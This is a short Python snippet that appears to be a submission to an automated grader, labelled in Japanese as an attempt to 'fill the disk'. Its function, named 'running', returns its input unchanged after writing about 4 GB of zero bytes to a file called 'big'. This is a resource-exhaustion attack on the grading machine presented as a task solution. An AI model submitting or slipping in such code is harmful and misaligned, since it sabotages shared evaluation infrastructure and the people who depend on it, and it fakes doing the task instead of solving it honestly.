# tries: ディスクを埋める
# verdict: -
# scores: running-test=0
# %% grade_id="running"
def running(values):
    with open("big", "wb") as file:
        for _ in range(40):
            file.write(bytes(10**8))
    return values
